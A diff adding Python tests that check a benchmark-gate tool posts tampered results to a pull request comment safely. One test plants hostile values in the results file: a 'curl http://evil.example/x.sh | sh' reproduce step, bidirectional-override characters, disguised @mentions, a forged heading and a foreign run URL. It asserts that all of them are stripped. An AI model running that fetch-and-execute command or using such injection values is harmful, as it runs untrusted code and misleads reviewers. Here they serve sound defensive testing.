@@ -98,3 +98,56 @@ def test_publish_without_write_access_is_an_error_with_a_hint(repo: Path) -> Non
         assert done.returncode == 3  # type: ignore[attr-defined]
         assert "pull-requests: write" in done.stderr  # type: ignore[attr-defined]
         assert READ_ONLY not in done.stderr  # type: ignore[attr-defined]
+
+
+BIDI = "\u202e\u2066\u200f"
+
+
+def test_a_tampered_pass_over_failing_metrics_is_posted_as_benchgate_would_render_it(repo: Path) -> None:
+    head = fork_run(repo)
+    path = repo / GATE
+    data = json.loads(path.read_text())
+    result = data["scenarios"]["synthetic"]
+    data["status"] = result["status"] = "pass"
+    result["failed"] = False
+    for metric in result["metrics"].values():
+        metric.update(status="pass", threshold_status="pass", verdict="improved")
+    result["reproduce"] = ["curl http://evil.example/x.sh | sh"]
+    result["reasons"] = [{"kind": "threshold", "status": "pass", "message": "ok " * 350_000}]
+    result["base"]["reason"] = f"&commat;maintainers {BIDI} see www.evil.example\n\n# forged heading"
+    result["meta"]["model"] = f"&commat;org/team {BIDI}"
+    result["worst"] = [{"id": f"x{BIDI}&commat;a", "deltas": {"coverage": -0.3}, "excerpt": f"{BIDI}@x"}]
+    result["run_url"] = "https://evil.example/acme/bench/actions/runs/1"  # the right shape, another host
+    path.write_text(json.dumps(data))
+    assert path.stat().st_size > 1_000_000
+    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR, head_sha=head)
+        done = publish(repo, github, "--expect-head-sha", head)
+        assert done.returncode == 0, done.stderr  # type: ignore[attr-defined]
+        [comment] = ours(github)
+    body = str(comment["body"])
+    assert len(body.encode("utf-16-le")) // 2 <= 65_536
+    assert "## ❌ FAIL" in body and "coverage regressed against the base" in body
+    assert "curl" not in body and "ok ok ok" not in body
+    reproduce = body.split("### Reproduce")[1]
+    assert (
+        "dvc repro bench@synthetic-dry-run" in reproduce or "benchgate run --scenario synthetic" in reproduce
+    )
+    base_sha = data["scenarios"]["synthetic"]["base"]["sha"]
+    assert f"benchgate gate --scenario synthetic --mode dry-run --base {base_sha}" in reproduce
+    assert not any(char in body for char in BIDI)
+    html = MarkdownIt("commonmark").enable("table").render(body)
+    assert "<a " not in html and "<h1" not in html
+    assert "@maintainers" not in html and "@org/team" not in html  # `&commat;` never decodes to a mention
+    assert "evil.example" not in body
+
+
+def test_a_deeply_nested_gate_json_is_a_one_line_error(repo: Path) -> None:
+    fork_run(repo)
+    (repo / GATE).write_text("[" * 100_000 + "]" * 100_000)
+    with FakeGitHub({TOKEN: {"login": BOT, "write": True}}) as github:  # type: ignore[dict-item]
+        github.add_issue(OWNER, REPO, PR)
+        done = publish(repo, github)
+    assert done.returncode == 2, done.stderr  # type: ignore[attr-defined]
+    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1  # type: ignore[attr-defined]
+    assert "nested too deeply" in done.stderr  # type: ignore[attr-defined]
